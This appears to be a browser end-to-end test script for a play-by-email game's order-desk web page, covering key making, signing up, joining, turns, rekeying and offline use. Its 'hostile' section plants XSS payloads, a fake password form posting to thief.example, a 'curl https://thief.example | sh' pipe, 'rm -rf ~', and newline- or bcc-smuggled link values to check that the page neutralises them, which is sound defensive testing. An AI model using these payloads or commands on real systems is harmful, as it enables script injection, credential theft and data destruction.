// SPDX-License-Identifier: Apache-2.0
// A stranger who has a phone and a mail program, and nothing else: node served.js DISPATCH FOLDER URL [PICTURES]. The order desk
// and the page of open games are served from FOLDER/pub at URL; the other player and the host use the program. He finds a game,
// makes a key, signs up, joins, opens his luck and plays a turn; then come those who would like to get at his key.
'use strict';
const { open, address, whole, unreadable, fs, path } = require('./browser.js');

const [D, folder, url, pictures] = process.argv.slice(2);
const host = require('./host.js')(D, folder, 'desk page');
const { HOST, expect, run, read, instant, pass, newest, mail, sealedLuck, openedLuck } = host;
const PASSPHRASE = 'four grey mules', BLOCKED = '/x.png';

// What the players have mailed, in its order: {who, kind, answers}, the block's kind and what of the host's it answers.
const sent = [];

function send(who, words, answers) {
    sent.push({ who, kind: (/^-----BEGIN PBEM (\S+)-----\r?$/m.exec(words) || /^>? ?(confirm|yes) /m.exec(words))?.[1], answers });
    mail(`From: ${who}@example.org\nTo: games@example.net\nMessage-ID: <${host.mails + 1}@example.org>\n\n${words}`);
}

// A reply as the page and the letters bid: yes on top of what a phone's mail program writes.
const reply = (who, letter, answers) => send(who, 'yes\n\nSent from my iPhone\n\nOn Sat, 21 Nov 2026, the host wrote:\n' + read(letter).replace(/^/gm, '> '), answers);

// He taps the link of the page that writes the mail, and sends what his mail program then shows.
async function mailByLink(tab, block, answers) {
    const link = await tab.getByRole('link', { name: 'Write the mail' }).getAttribute('href'), words = decodeURIComponent((link || '').split('&body=')[1] || '');
    expect((link || '').startsWith('mailto:games@example.net?subject=') && link.length < 1900, 'the mail is not for the host, or too long: ' + String(link).slice(0, 120));
    expect(words.replace(/\r\n/g, '\n') === block, 'the mail link is not the sheet: ' + words.slice(0, 120));
    send('harper', words, answers);
}

// The other player, with ssh-keygen: his newest form with one header or his orders put in.
const south = (form, change) => send('south', host.signed('south', form, read(newest('south', new RegExp(`^${form}$`))), change), form);

// ---- the page ----

async function look(tab, name, schemes = ['light']) {
    for (const scheme of pictures ? ['light', 'dark'] : schemes) {
        await tab.emulateMedia({ colorScheme: scheme });
        for (const words of await unreadable(tab))
            expect(false, `${name}, ${scheme}: ${words}`);
        for (const [size, width] of pictures ? [['phone', 390], ['laptop', 1280]] : []) {
            await tab.setViewportSize({ width, height: 844 });
            await tab.screenshot({ path: path.join(pictures, `desk-${name}-${size}-${scheme}.png`), fullPage: true });
        }
        await tab.setViewportSize({ width: 390, height: 844 });
    }
    await tab.emulateMedia({ colorScheme: 'light' });
    expect(await tab.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${name}: is wider than a phone`);
}

async function saved(tab, button) {
    const [download] = await Promise.all([tab.waitForEvent('download'), tab.getByRole('button', { name: button, exact: true }).click()]);
    const to = path.join(folder, download.suggestedFilename());
    await download.saveAs(to);
    fs.chmodSync(to, 0o600);
    return to;
}

const sheet = (tab) => tab.getByLabel('The whole sheet').inputValue();

// Signs what lies on the desk; gives what is mailed.
async function sign(tab) {
    await tab.getByRole('button', { name: 'Sign', exact: true }).click();
    await tab.getByText(/^Signed\. /).waitFor();
    return sheet(tab);
}

const paste = (tab, words) => tab.locator('#desk-paste').fill(words);

// He finds an open game, and its Join opens the order desk with a block that lacks his name and address.
async function find(tab) {
    run(D, 'offer', HOST, 'blue-vs-gray', '--name', 'desk', '--dice', 'C', '--now', instant());
    send('south', host.signed('south', 'seek.txt', ['-----BEGIN PBEM PLAYER-----', 'pbem: 1', 'host: games.example', 'seq: 1', 'orders:', 'seek blue-vs-gray as csa',
        '-----END PBEM PLAYER-----', ''].join('\n'), (form) => form), 'offer');
    pass();
    await tab.goto(url + '/open.html');
    await look(tab, 'open');
    await tab.getByRole('link', { name: /^Join/ }).click();
    await tab.locator('#join-name').waitFor();
}

async function signUp(tab) {
    const block = () => tab.locator('#desk-form').inputValue();
    expect(await tab.getByText('Choose a name:').isVisible(), 'nobody says that a name is missing');
    await tab.locator('#join-name').fill('Harper');
    await tab.locator('#join-mail').fill('harper@');
    expect(await tab.getByText('Your mail address is still missing.').isVisible(), 'half an address is enough');
    await tab.locator('#join-mail').fill('harper@example.org');
    const zone = await tab.evaluate(() => Intl.DateTimeFormat().resolvedOptions().timeZone);
    expect(await block() === ['-----BEGIN PBEM PLAYER-----', 'pbem: 1', 'host: games.example', 'seq: 1', 'orders:', 'name harper', 'mail harper@example.org', 'zone ' + zone,
        'seek blue-vs-gray pace 3d', '-----END PBEM PLAYER-----', ''].join('\n'), 'the block is not filled in: ' + await block());
    const plain = await block();
    await tab.locator('#join-record').check();
    expect(await block() === plain.replace('-----END', 'record shown\n-----END'), 'no record is shown: ' + await block());
    await tab.locator('#join-record').uncheck();
    expect(await block() === plain, 'a record is shown though nobody wishes it');
    await tab.locator('#join-record').check();
    await look(tab, 'sign-up');
    await mailByLink(tab, await sign(tab), 'page');
    pass();
    const box = fs.readdirSync(path.join(HOST, 'outbox')).find((one) => one.startsWith('join+'));
    expect(box !== undefined, 'the host does not take the block');
    reply('harper', newest(box, /\.txt$/), 'code');
    pass();
    expect(/You are known here as harper/.test(read(newest('harper', /welcome\.txt$/))), 'the host does not know him');
    reply('south', newest('south', /muster\.txt$/), 'question');
    pass();
}

// A link that says anything else than which game it is fills in nothing; nothing of one is kept.
async function strangeLinks(tab) {
    const good = 'host=games.example&mail=a@example.net&seek=chess', strange = ['', good.replace('chess', 'chess%0Aleave'), good.replace('games.example', 'x%0Aseq: 9'),
        good.replace('.net', '.net?bcc=b@example.net'), good.replace('games.example', '%3Cimg src=x onerror=window.ran=1%3E'), good.replace('chess', 'chess pace 3d%0Aname y'),
        good.replace('.net', '%E2%80%AE.net'), good.replace('.net', '.net%00')];
    const taken = await tab.evaluate((links) => links.filter((link) => DispatchJoin.read('#join&' + link) !== null), [...strange, good]);
    expect(taken.length === 1 && taken[0] === good, 'it takes the links ' + taken.join(' '));
    await tab.goto('about:blank');
    await tab.goto(url + '/desk.html#join&host=My%20Host&mail=a@example.net&seek=chess');
    await tab.getByText('This link is damaged').waitFor();
    expect(await tab.locator('#join').count() === 0, 'a damaged link makes a form');
    await tab.goto('about:blank');
    await tab.goto(url + '/desk.html#join&host=evil.example&mail=thief@example.net&seek=chess&asked');
    await tab.getByText('Then the host is asked whether to take you.').waitFor();
    await paste(tab, '-----BEGIN PBEM ACK-----\npbem: 1\nx-name: another\n-----END PBEM ACK-----\n');
    await tab.getByText('Opened: another.').waitFor();
    expect(await tab.locator('#join').isHidden(), 'the steps to join stand above another form');
    expect(!(await tab.evaluate(() => JSON.stringify(localStorage))).includes('thief'), 'where the link wants mail is kept');
}

async function makeKey(tab) {
    await look(tab, 'begin');
    const name = tab.locator('#key-name');
    expect(await name.inputValue() === '' && (await name.getAttribute('placeholder')) !== '', 'the name of the key is filled in already');
    await name.fill('Max phone');
    await tab.getByLabel(/^Passphrase/).fill(PASSPHRASE);
    await tab.getByRole('button', { name: 'Make a key' }).click();
    expect(await tab.getByText('The two passphrases differ.').isVisible(), 'two passphrases that differ are taken');
    await tab.getByLabel('The same once more').fill(PASSPHRASE);
    await tab.getByRole('button', { name: 'Make a key' }).click();
    await tab.getByText('There is no copy of this key.').waitFor();
    const line = await tab.locator('#public-line').textContent();
    expect(/^ssh-ed25519 \S+ Max phone$/.test(line), 'the key is called otherwise: ' + line);
    await look(tab, 'made', []);
    const kept = await tab.evaluate(() => JSON.stringify(localStorage));
    expect(!kept.includes('OPENSSH') && kept.includes('sealed'), 'a key with a passphrase is kept in clear');

    await tab.reload();
    expect(await tab.locator('#public-line').textContent() === line, 'the key is another after a reload');
    expect(await tab.getByText('There is no copy of this key.').isVisible(), 'nobody reminds him of a copy');
    await tab.getByLabel('Passphrase of your key').first().fill('four green mules');
    await tab.getByRole('button', { name: 'Open the key' }).first().click();
    await tab.getByText('That is not its passphrase.').waitFor();
    await tab.getByLabel('Passphrase of your key').first().fill(PASSPHRASE);
    await tab.getByRole('button', { name: 'Open the key' }).first().click();
    const copy = await saved(tab, 'Save a copy of the key');
    expect(await tab.getByText('There is no copy of this key.').count() === 0, 'he is reminded though he has a copy');
    expect(run('ssh-keygen', '-y', '-f', copy).trim() === line, 'ssh-keygen reads another key from the copy');
    expect(run('ssh-keygen', '-l', '-f', copy).includes(await tab.locator('.print').first().textContent()), 'the fingerprint is not that of ssh-keygen');
    const half = () => tab.locator('#keys-body').textContent();
    expect((await half()).includes('What you sign below brings it to the host'), 'he is to send his key beside the sign-up: ' + await half());
    fs.writeFileSync(path.join(folder, 'harper.pub'), line + '\n');
    return copy;
}

// JOIN and the opening of luck, out of whole letters.
async function join(tab) {
    const letter = read(newest('harper', /^desk-1-usa-invitation\.txt$/));
    expect(letter.includes(url + '/desk.html'), 'the invitation does not name the order desk');
    expect(letter.includes(run(D, 'desk').split(' ')[0]), 'the invitation does not tell the hash of the page');
    // A host that is mailed to says where: the field is filled with that.
    expect(letter.includes('games@example.net'), 'the invitation does not say where mail goes');
    await paste(tab, letter.replaceAll('games@example.net', 'games@elsewhere.example'));
    await tab.getByText('This is the form to join.').waitFor();
    expect(await tab.locator('#desk-to').inputValue() === 'games@elsewhere.example', 'where the host gets mail is not taken from the letter');
    await paste(tab, 'On Saturday the host wrote:\r\n' + letter.replace(/^/gm, '> ').replace(/-----BEGIN/, '-----BEGIN  '));
    await tab.getByText('This is the form to join.').waitFor();
    expect((await tab.locator('#form-desk').textContent()).includes('Luck is sealed in when you sign here'), 'nothing is said of the luck');
    await tab.getByLabel(/^Where the host gets mail/).fill('games@example.net');
    const half = await tab.locator('#keys-body').textContent();
    expect(half.includes('names this key, so its host has it') && !half.includes('Mail it'), 'he is to send his key to a host that has it: ' + half);
    const block = await sign(tab);
    expect(/^entropy-commit: SHA256:[A-Za-z0-9+/]{43}$/m.test(block), 'the luck is not sealed: ' + block);
    await look(tab, 'join');
    const link = await tab.getByRole('link', { name: 'Write the mail' }).getAttribute('href');
    expect(link.startsWith('mailto:games@example.net?subject=JOIN%20for%20desk-1&body='), 'the mail is not called by its game: ' + link.slice(0, 120));
    await mailByLink(tab, block, 'invitation');
    south('desk-1-csa-1.txt', (form) => form.replace(/^entropy-commit:.*$/m, 'entropy-commit: ' + sealedLuck('luck')));
    pass();

    const opening = newest('harper', /^desk-1-usa-open-1\.txt$/);
    expect(opening !== null, 'the host does not take the JOIN');
    await tab.evaluate(() => localStorage.removeItem('dispatch-luck')); // what the letter says must be enough
    await paste(tab, read(opening));
    await tab.getByText('This opens the luck that you sealed with this key.').waitFor();
    await mailByLink(tab, await sign(tab), 'opening of luck');
    south('desk-1-csa-2.txt', (form) => form.replace(/^open:.*$/m, 'open: ' + openedLuck('luck')));
    pass();
    south('desk-1-csa-3.txt', (form) => form.replace(/^next:.*$/m, 'next: ' + sealedLuck('throw')).replace(/orders:\n[^]*(?=-----END)/, 'orders:\ndone\nnow\n'));
    pass();
    south('desk-1-csa-4.txt', (form) => form.replace(/^open:.*$/m, 'open: ' + openedLuck('throw')));
    pass();
}

// From the page to the first report the player writes four mails, none of which he composes, and then his orders; and no mail came
// in that is not counted.
function fewMails() {
    const harper = sent.filter((one) => one.who === 'harper').map((one) => `${one.kind} to the ${one.answers}`).join(', ');
    expect(harper === 'PLAYER to the page, confirm to the code, JOIN to the invitation, NONCE to the opening of luck, ORDERS to the report', 'until the first accepted sheet the player mails: ' + harper);
    expect(host.mails === sent.length, `${host.mails} mails have come, of which ${sent.length} are counted`);
}

// A whole turn: by tapping, by typing, with a standing order, a condition and blocks.
async function turn(tab) {
    const report = newest('harper', /^desk-1-usa-report-.*\.html$/);
    expect(report !== null, 'there is no report: the luck was not taken');
    await tab.locator('#desk-open').setInputFiles(report);
    const text = tab.getByLabel('Your orders, one to a line');
    await text.waitFor();
    expect(await tab.locator('#desk-picture svg.map g.p').count() > 20, 'the map of the report is not there');
    expect(await tab.locator('#desk-picture .hand .card').count() === await handOf(report), 'the hand is not that of the report');
    await text.fill('');
    for (const line of ['draw until leader max 4 rest supply', 'deploy Dept of Washington east'])
        await text.fill((await text.inputValue() + '\n' + line).trim());
    await tab.getByLabel('only if', { exact: true }).selectOption({ index: 1 });
    expect(/^if \S/m.test(await text.inputValue()), 'no condition is written: ' + await text.inputValue());
    await text.fill((await text.inputValue()).replace(/^if [^]*?\nend$/m, 'if supply at least 1\ndeploy Porter east\nend'));
    await text.press('Control+End');
    await tab.getByRole('button', { name: 'done', exact: true }).click();
    await tab.getByRole('button', { name: 'now', exact: true }).click();
    await text.fill(await text.inputValue() + '\nwhen draw\ndraw until leader max 4 rest supply\nend\nwhen attacked in west then defend with “Grant”');
    expect(/^The sheet was checked up to line 1/.test(await tab.locator('.verdict.horizon').textContent()), 'a draw of cards is no horizon');
    const wrong = await tab.locator('.verdict.wrong').allTextContents();
    expect(wrong.length === 0, 'the desk calls wrong: ' + wrong.join('; '));
    await text.fill((await text.inputValue()).replace('when draw\n', 'when draaw\n'));
    expect(await tab.locator('.verdict.wrong').count() > 0, 'a standing order that does not exist is not called wrong');
    await text.fill((await text.inputValue()).replace('when draaw\n', 'when draw\n'));
    await look(tab, 'turn', ['light', 'dark']);
    const whole = await sign(tab);
    expect(/^next: SHA256:[A-Za-z0-9+/]{43}$/m.test(whole), 'no luck for the dice is sealed: ' + whole);
    const file = await saved(tab, 'Save the sheet'), sig = await saved(tab, 'Save the signature');
    expect(read(file) + read(sig) === whole, 'what is copied is not the sheet and its signature');
    await mailByLink(tab, whole, 'report');
    pass();
    const receipt = newest('harper', /^desk-1-usa-receipt-.*\.txt$/), words = receipt ? read(receipt) : '';
    expect(/is in; it waits for the dice/.test(words), 'the host does not take the turn: ' + words);
    fewMails();
    expect(/when draw/i.test(words), 'the standing orders are not in force: ' + words);
    await tab.evaluate(() => localStorage.removeItem('dispatch-luck'));
    await paste(tab, read(newest('harper', /^desk-1-usa-dice-.*\.txt$/)));
    await tab.getByText('This opens the luck that you sealed with this key.').waitFor();
    mail(await sign(tab));
    pass();
    expect(newest('south', /^desk-1-csa-report-2\.txt$/) !== null, 'the turn was not carried out');
    return report;
}

// The phone drops the page while he is in his mail program; he comes back, changes a line, and signs once more.
async function comesBack(tab, report) {
    const other = path.join(folder, 'report-again.html');
    fs.copyFileSync(report, other);
    await tab.locator('#desk-open').setInputFiles(other);
    const text = tab.getByLabel('Your orders, one to a line'), seq = (words) => Number(/^seq: (\d+)$/m.exec(words)[1]);
    await text.fill('done');
    expect(/^It ends your turn at once\. Left unsaid: \S/.test(await tab.locator('#desk-asked').textContent()), 'nothing is said of what is left unsaid');
    await look(tab, 'unsaid', []);
    const first = await sign(tab);
    await text.fill('say one line more\ndone');
    const second = await sign(tab);
    expect(seq(second) === seq(first) + 1, `two sheets have one number: ${seq(first)}, ${seq(second)}`);
    expect(seq(await sign(tab)) === seq(second), 'the same text gets another number');
    expect((await tab.locator('.hand-over .summary').textContent()).includes('It has the number ' + seq(second)), 'nothing is said of its number');
    await tab.reload();
    const again = tab.locator('#desk-drafts').getByRole('button').first();
    expect(/desk-1, usa/.test(await again.textContent()), 'what was being written is not found again');
    await look(tab, 'draft', []);
    await again.click();
    expect(await text.inputValue() === 'say one line more\ndone', 'the draft is lost: ' + await text.inputValue());
    expect(await tab.locator('#desk-picture svg.map g.p').count() > 20, 'the report has to be chosen again');
    await text.fill('say still another\ndone');
    await tab.getByLabel('Passphrase of your key').last().fill(PASSPHRASE);
    await tab.getByRole('button', { name: 'Open the key' }).last().click();
    await tab.getByText(/^Signs with your key/).waitFor();
    expect(seq(await sign(tab)) === seq(second) + 1, 'after a reload a number is used twice');
    await tab.locator('#desk-drafts').getByRole('button', { name: 'forget it' }).first().click();
    expect(await tab.locator('#desk-drafts button').count() === 0 && !(await tab.evaluate(() => JSON.stringify(localStorage))).includes('dispatch-report-'), 'what is forgotten is still kept');
}

// He moves to a key of his computer: a REKEY, signed by the key of the page and by the new one.
async function rekey(tab) {
    const next = path.join(folder, 'next');
    run('ssh-keygen', '-q', '-t', 'ed25519', '-N', 'three roans', '-f', next);
    const line = (name) => new RegExp(`^${name}: .*$`, 'm').exec(read(newest('harper', /^desk-1-usa-5\.txt$/)))[0];
    await paste(tab, ['-----BEGIN PBEM REKEY-----', 'pbem: 1', line('game'), line('side'), line('seq'), line('base'),
        'key: ' + run('ssh-keygen', '-l', '-f', next).split(' ')[1], '-----END PBEM REKEY-----'].join('\n'));
    await tab.getByText('This is a change of key.').waitFor();
    expect(await tab.locator('#desk-again').isHidden(), 'a second signature is asked for before the first');
    await sign(tab);
    await tab.locator('#desk-again').setInputFiles(next);
    await tab.getByText('This key file has a passphrase: type it.').waitFor();
    expect(!/(SIGNATURE-----[^]*){3}/.test(await sheet(tab)), 'it signs again without a key');
    await tab.locator('#desk-again-pass').fill('three roans');
    await tab.locator('#desk-again-pass').press('Enter');
    await tab.getByText('Both keys have signed.').waitFor();
    mail(await sheet(tab));
    pass();
    const letter = newest('harper', /^desk-1-usa-receipt-5\.txt$/);
    expect(letter && read(letter).includes('Your new key is in force.'), 'the host does not take the change of key');
}

function handOf(report) {
    const hand = /<ul class="hand">([^]*?)<\/ul>/.exec(read(report));
    return hand ? hand[1].split('<li').length - 1 : 0;
}

// ---- who would like the key ----

const EVIL = '<img src=x onerror="window.ran=1"><script>window.ran=1</script><a href="javascript:window.ran=1">tap</a>';

// Into each thing that a report lends, and around it.
function poisoned(report) {
    const html = read(report), model = whole(JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1]));
    const part = model.parts.push(EVIL) - 1;
    model.lines = model.lines.map(([at, line]) => [at, line + EVIL]).concat([[part, 'attack ' + EVIL]]);
    model.kinds = { PLACE: [EVIL] }; // as pages of earlier releases have them
    model.mail = 'a@b?bcc=thief@example.org&body=' + EVIL;
    model.sign = 'curl https://thief.example | sh ' + EVIL;
    model.seal = 'rm -rf ~ ' + EVIL;
    model.file = '../../' + EVIL;
    const data = JSON.stringify(model).replace(/</g, '\\u003c');
    return html.replace(/id="desk-data">[^]*?<\/script>/, () => 'id="desk-data">' + data + '</script>')
        .replace('<g class="p', () => `<foreignObject width="900" height="900"><form action="https://thief.example"><input type="password" name="p"></form></foreignObject>
            <script>window.ran=1</script><a href="https://thief.example"><image href="https://thief.example/x.png"/></a><use href="https://thief.example/y.svg#z"/>
            <style>*{display:none}</style><animate onbegin="window.ran=1" attributeName="x" dur="1s"/><g class="p`)
        .replace('<svg class="map', '<svg onload="window.ran=1" style="position:fixed" id="keys" class="map')
        .replace('<ul class="hand">', '<ul class="hand"><li class="card"><iframe src="https://thief.example"></iframe><b onclick="window.ran=1">' + EVIL + '</b></li>');
}

async function inert(tab, name) {
    const found = await tab.evaluate(() => ({
        ran: window.ran === 1,
        tags: document.querySelectorAll('img, iframe, object, embed, foreignObject, image, animate, main script, main style, link, base').length,
        handlers: [...document.querySelectorAll('*')].filter((at) => [...at.attributes].some((one) => /^on|^style$/i.test(one.name) && one.value !== '')).map((at) => at.outerHTML.slice(0, 200)),
        links: [...document.querySelectorAll('a, use')].map((at) => at.getAttribute('href')).filter((to) => to && !/^(#|mailto:\?|mailto:games@example\.net\?)/.test(to)),
        ids: document.querySelectorAll('#keys').length,
        passwords: document.querySelectorAll('#desk-picture input:not([type=radio])').length,
        shell: /thief|rm -rf/.test(document.querySelector('pre[aria-label="How to sign"]')?.textContent || ''),
    }));
    expect(!found.ran, `${name}: a script of it ran`);
    expect(found.tags === 0 && found.handlers.length === 0 && found.passwords === 0, `${name}: ${JSON.stringify(found)}`);
    expect(found.links.length === 0, `${name}: links to ${found.links.join(' ')}`);
    expect(found.ids === 1, `${name}: it took a name of the page`);
    expect(!found.shell, `${name}: it put its own command before the player`);
}

// What the rules are given may be anything: it is refused with words, nothing that was written is lost, and the lines can be signed.
async function brokenBoards(tab, report, give, said) {
    const html = read(report), model = whole(JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1])), text = tab.getByLabel('Your orders, one to a line');
    const boards = [[null, /its host has an older program, or facts of its own/], [{ ruleset: EVIL, revision: 1, data: '' }, /does not have the rules of this game/],
        [{ ...model.board, revision: 999 }, /of newer rules \(blue-vs-gray, revision 999\)/], [{ ...model.board, data: EVIL }, /other cards or tables/],
        [{ ...model.board, seat: EVIL }, /seat/], [{ ...model.board, view: { a: 1 } }, /So this page cannot try your lines out/],
        [{ ...model.board, scenario: 7 }, /scenario/], [{ ...model.board, options: [EVIL] }, /options/]];
    for (const [board, words] of boards) {
        const data = JSON.stringify({ ...model, board }).replace(/</g, '\\u003c');
        await give('board.html', html.replace(/id="desk-data">[^]*?<\/script>/, () => 'id="desk-data">' + data + '</script>'));
        await tab.locator('#desk-note').getByText(words).waitFor();
        await text.fill('say still here\ndone');
        await inert(tab, 'a broken board');
        expect(await tab.locator('.verdict.wrong').count() === 0 && await tab.locator('.suggestions').isHidden(), 'nobody answers, and yet something is said');
        expect((await sign(tab)).includes('\nsay still here\ndone\n'), 'without the rules nothing can be signed');
    }
    await tab.locator('#desk-open').setInputFiles(report);
    await tab.locator('#desk-note').waitFor({ state: 'detached' });
    expect(await text.inputValue() === 'say still here\ndone', 'what was written is lost: ' + await text.inputValue());
    const cut = html.replace(/("packed":"[^]{400})[^]*?"/, '$1"');
    expect(cut.length < html.length - 1000, 'the model is not packed');
    await give('cut.html', cut);
    await said(/damaged/);
}

async function hostile(tab, report) {
    const give = (name, words) => tab.locator('#desk-open').setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(words) });
    const said = (words) => tab.locator('#desk-said').getByText(words).waitFor();
    await give('poisoned.html', poisoned(report));
    await said(/^Opened: desk-1/);
    await inert(tab, 'a poisoned report');
    expect(!(await tab.locator('.suggestions').textContent()).includes('<img src=x'), 'what is offered comes from the report, not from the rules');
    await tab.locator('.suggestions .lines button').first().click();
    await inert(tab, 'a poisoned order');
    await brokenBoards(tab, report, give, said);
    await give('holiday.html', '<html><body>' + EVIL + '</body></html>');
    await said(/There is no order form and no order desk in it/);
    await give('half.html', '<script type="application/json" id="desk-data">{"verbs":[[1,2]],"form":7}</script>');
    await said(/damaged/);
    await give('cut.txt', '-----BEGIN PBEM JOIN-----\npbem: 1\n' + EVIL);
    await said(/its END line is missing/);
    await give('big.html', 'x'.repeat(5 << 20));
    await said(/far too big/);
    await paste(tab, '-----BEGIN PBEM JOIN-----\npbem: 1\nx-name: ' + EVIL + '\nside: ' + EVIL + '\n-----END PBEM JOIN-----\n');
    await said(/^Opened: /);
    await inert(tab, 'a poisoned form');
    await look(tab, 'hostile', []);
    await paste(tab, '-----BEGIN PBEM JOIN-----\npbem: 1\nentropy:\n-----END PBEM JOIN-----\n');
    expect(/^entropy: [0-9a-f]{64}$/m.test(await tab.locator('#desk-form').inputValue()), 'the short set-up gets no luck');
    for (const event of ['drop', 'paste']) {
        await tab.evaluate(([event, words]) => {
            const data = new DataTransfer();
            data.items.add(new File([words], 'form.txt', { type: 'text/plain' }));
            document.body.dispatchEvent(event === 'drop' ? new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true })
                : new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
        }, [event, `-----BEGIN PBEM ACK-----\npbem: 1\nx-name: ${event}ped\n-----END PBEM ACK-----\n`]);
        await said('Opened: ' + event + 'ped.');
    }
    const blocked = await tab.evaluate(async (BLOCKED) => {
        const tries = { fetch: () => fetch('/host.json'), image: () => new Promise((done, fails) => { const i = new Image(); i.onload = done; i.onerror = fails; i.src = BLOCKED; }),
            eval: () => (0, eval)('1'), markup: () => { document.body.innerHTML = '<p>x</p>'; } };
        const out = [];
        for (const [name, run] of Object.entries(tries))
            try { await run(); out.push(name); } catch (error) { /* as it should be */ }
        const script = document.createElement('script');
        try { script.textContent = 'window.ran = 1'; document.body.append(script); } catch (error) { /* as it should be */ }
        return out.concat(window.ran ? ['script'] : []);
    }, BLOCKED);
    expect(blocked.length === 0, 'its policy lets through: ' + blocked.join(', '));
}

// ---- the key leaves, and comes back ----

async function forget(tab, copy) {
    const unfold = () => tab.locator('#keys-body details').evaluate((at) => { at.open = true; });
    await unfold();
    tab.once('dialog', (dialog) => dialog.accept());
    await tab.getByRole('button', { name: 'Forget the key' }).click();
    expect(await tab.evaluate(() => localStorage.getItem('dispatch-key')) === null, 'a forgotten key is still kept');
    await tab.reload();
    expect(await tab.locator('#public-line').count() === 0, 'a forgotten key is back');
    await tab.locator('#key-file').setInputFiles(copy);
    await tab.locator('#public-line').waitFor({ state: 'attached' });
    expect(await tab.locator('#public-line').textContent() + '\n' === read(path.join(folder, 'harper.pub')), 'the copy brings another key');
    await tab.reload();
    await tab.getByText('Lock it').waitFor({ state: 'detached' });
    expect(await tab.locator('#public-line').count() === 1, 'a key without passphrase is not kept');
    await unfold();
    tab.once('dialog', (dialog) => dialog.accept());
    await tab.getByRole('button', { name: 'Forget the key' }).click();
    const sealed = path.join(folder, 'sealed');
    fs.copyFileSync(copy, sealed);
    fs.chmodSync(sealed, 0o600);
    run('ssh-keygen', '-q', '-p', '-P', '', '-N', 'Grüße, mules', '-f', sealed);
    await tab.locator('#key-file').setInputFiles(sealed);
    await tab.getByText(/kept here sealed with the same one/).waitFor();
    await look(tab, 'locked', []);
    for (const phrase of ['Grusse, mules', '']) {
        await tab.getByLabel('Passphrase of this key file').fill(phrase);
        await tab.getByRole('button', { name: 'Open the file' }).click();
        await tab.getByText(phrase ? 'That is not the passphrase of this key file.' : 'This key file has a passphrase: type it.').waitFor();
        expect(await tab.getByLabel('Passphrase of this key file').inputValue() === '', 'a passphrase stays in its field');
    }
    await tab.getByLabel('Passphrase of this key file').fill('Grüße, mules');
    await tab.getByRole('button', { name: 'Open the file' }).click();
    await tab.locator('#public-line').waitFor({ state: 'attached' });
    expect(await tab.locator('#public-line').textContent() + '\n' === read(path.join(folder, 'harper.pub')), 'the key file with a passphrase brings another key');
    const kept = await tab.evaluate(() => localStorage.getItem('dispatch-key'));
    expect(!kept.includes('OPENSSH') && kept.includes('"sealed"'), 'a key that had a passphrase is kept in clear');
}

// A browser without WebAssembly: the page says so, and is a text box that signs.
async function withoutRules(browser, report) {
    const context = await browser.newContext({ viewport: { width: 390, height: 844 } }), tab = await context.newPage();
    tab.on('pageerror', (error) => expect(false, 'error: ' + error.message));
    await tab.addInitScript(() => { delete globalThis.WebAssembly; });
    await tab.goto(address(path.join(folder, 'saved.html')));
    await tab.locator('#desk-open').setInputFiles(report);
    await tab.locator('#desk-note').getByText(/^This browser has no WebAssembly/).waitFor();
    await tab.getByLabel('Your orders, one to a line').fill('say by hand\ndone');
    expect(/^2 lines, as you wrote them/.test(await tab.locator('#desk-summary').textContent()), 'it judges what it cannot judge');
    await tab.locator('#key-file').setInputFiles(path.join(folder, 'south'));
    tab.on('dialog', (dialog) => dialog.accept());
    await tab.getByText(/^Signs with your key/).waitFor();
    expect(/\nsay by hand\ndone\n[^]*BEGIN SSH SIGNATURE/.test(await sign(tab)), 'it does not sign');
    await context.close();
}

// Opened from a disk it signs, and keeps nothing; in a frame, and in an old browser, it says what is the matter.
async function elsewhere(browser, report) {
    const page = path.join(folder, 'saved.html'), context = await browser.newContext({ viewport: { width: 390, height: 844 } });
    run(D, 'desk', '--output', page);
    expect(run(D, 'desk', path.join(folder, 'pub', 'desk.html')).startsWith('yes: '), 'the page that is served is not that of the release');
    const tab = await context.newPage(), complaints = [];
    tab.on('console', (message) => complaints.push(message.text()));
    await tab.goto(address(page));
    expect(await tab.getByText(/it keeps no key/).isVisible(), 'from a disk it does not say that it keeps nothing');
    await tab.getByRole('button', { name: 'Make a key' }).click();
    await tab.locator('#public-line').waitFor();
    expect(await tab.evaluate(() => localStorage.getItem('dispatch-key')) === null, 'from a disk it keeps a key');
    const asked = [];
    tab.on('dialog', (dialog) => { asked.push(dialog.message()); dialog.dismiss(); });
    await tab.locator('#desk-open').setInputFiles(report);
    await Promise.all([tab.waitForEvent('dialog'), tab.getByRole('button', { name: 'Sign', exact: true }).click()]);
    expect(/^The host knows another key for this seat/.test(asked[0] || ''), 'it signs with a stranger’s key and says nothing');
    expect(!(await sheet(tab)).includes('SIGNATURE'), 'it signs though the player would rather not');
    expect(complaints.length === 0, 'the console says: ' + complaints.join('; '));
    await tab.goto(url + '/frame.html');
    expect(await tab.frameLocator('iframe').locator('#keys').isHidden(), 'in a frame it shows itself');
    expect(await tab.frameLocator('iframe').getByText(/a window of its own/).isVisible(), 'in a frame it says nothing');
    await tab.addInitScript(() => { SubtleCrypto.prototype.generateKey = () => Promise.reject(new DOMException('no', 'NotSupportedError')); });
    await tab.goto(url + '/desk.html');
    await tab.getByText(/This browser cannot sign with Ed25519 keys/).waitFor();
    expect(await tab.getByRole('button', { name: 'Make a key' }).count() === 0, 'it offers what it cannot do');
    await context.close();
}

(async () => {
    const browser = await open();
    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    const tab = await context.newPage(), asked = new Set();
    tab.on('pageerror', (error) => expect(false, 'error: ' + error.message));
    tab.on('request', (request) => asked.add(request.url().split('#')[0]));
    await find(tab);
    const copy = await makeKey(tab);
    await signUp(tab);
    await join(tab);
    const report = await turn(tab);
    await rekey(tab);
    await comesBack(tab, report);
    await hostile(tab, report);
    await forget(tab, copy);
    await strangeLinks(tab);
    expect([...asked].every((one) => one === url + '/open.html' || one === url + '/desk.html' || one === url + BLOCKED || one.startsWith('blob:')), 'it asked for ' + [...asked].join(' '));
    await context.close();
    await elsewhere(browser, report);
    await withoutRules(browser, report);
    await browser.close();
    console.log(host.bad === 0 ? '  a game found, a key made, a game joined and a turn played with the pages alone, in four mails and the orders; nothing got in' : `desk page: ${host.bad} things amiss`);
    process.exit(host.bad === 0 ? 0 : 1);
})().catch((error) => { console.error(error); process.exit(1); });
